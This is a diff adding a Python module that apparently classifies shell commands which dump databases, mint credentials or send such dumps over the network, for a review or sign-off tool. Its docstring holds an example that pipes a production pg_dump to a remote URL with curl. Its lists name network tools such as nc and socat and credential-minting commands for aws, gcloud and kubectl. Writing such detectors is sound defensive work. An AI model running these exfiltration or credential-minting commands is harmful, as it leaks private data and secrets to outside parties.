@@ -1,0 +1,72 @@
+"""Copies of whole databases, phones and credentials that a command prints or writes.
+
+A dump of a development database that goes to another machine is asked about. One of production, or
+of every database of a server, is private data; so is any dump on a paste site.
+
+    pg_dump -h prod-db app | curl -T - URL      -> NETWORK_OUT, traits={SENDS_SECRET}
+"""
+
+from __future__ import annotations
+
+from signoff.actions.operation import Operation, Reach, Trait
+from signoff.actions.programs.lexicon import is_production, words
+from signoff.actions.shell.command import Command
+from signoff.actions.shell.data_flow.origins import DUMPED, PRIVATE
+
+DUMPERS = words(
+    "pg_dump mysqldump mariadb-dump mongodump mongoexport sqlite3 cockroach exp expdp wp redis-cli "
+    "couchbackup influxd neo4j-admin mydumper heroku clickhouse-client cqlsh"
+)
+# They copy everything there is.
+WHOLE_DUMPERS = words("pg_dumpall pg_basebackup mariabackup xtrabackup")
+WHOLE_OPTIONS = frozenset({"--all-databases", "-A", "--all"})
+DUMP_WORDS = words("dump export backup backups pg:backups .dump --rdb copy")
+# Clients that hand what they are given to whoever answers.
+SENDERS = words(
+    "curl wget http https xh nc ncat netcat socat telnet openssl ftp lftp tftp croc ffsend"
+)
+# Programs with sub-commands that print a new secret.
+MINTING = {
+    "npm": ("token create",),
+    "aws": ("iam create-access-key", "sts get-session-token", "sts assume-role"),
+    "gcloud": ("iam service-accounts keys create",),
+    "heroku": ("authorizations:create", "auth:token"),
+    "doctl": ("registry docker-config",),
+    "kubectl": ("create token",),
+    "vault": ("token create", "write auth"),
+    "az": ("ad sp create-for-rbac", "account get-access-token"),
+}
+
+
+def dumped_by(command: Command) -> int:
+    """Say what a command copies: `DUMPED`, of production and whole servers `PRIVATE`, too."""
+    program = command.program
+    if program == "adb":
+        return DUMPED | PRIVATE if _names(command, frozenset({"backup"})) else 0
+    if program not in DUMPERS and program not in WHOLE_DUMPERS:
+        return 0
+    if program not in WHOLE_DUMPERS and "dump" not in program and not _names(command, DUMP_WORDS):
+        return 0
+    texts = [word.text for word in command.words[1:]]
+    is_whole = program in WHOLE_DUMPERS or not WHOLE_OPTIONS.isdisjoint(texts)
+    return DUMPED | PRIVATE if is_whole or any(map(is_production, texts)) else DUMPED
+
+
+def mints_secret(command: Command) -> bool:
+    """Tell whether a command makes a credential and prints it."""
+    lines = MINTING.get(command.program)
+    if lines is None:
+        return False
+    line = " ".join([word.text for word in command.words[1:] if word.text[:1] != "-"])
+    return line.startswith(lines)
+
+
+def leaves(op: Operation, origins: int, command: Command) -> bool:
+    """Tell whether a sending operation hands a dump to somebody."""
+    if not origins & DUMPED or op.reach is Reach.LOOPBACK or command.program not in SENDERS:
+        return False
+    return bool(origins & PRIVATE) or Trait.COVERT in op.traits
+
+
+def _names(command: Command, known: frozenset[str]) -> bool:
+    return any([word.text in known for word in command.words[1:]])
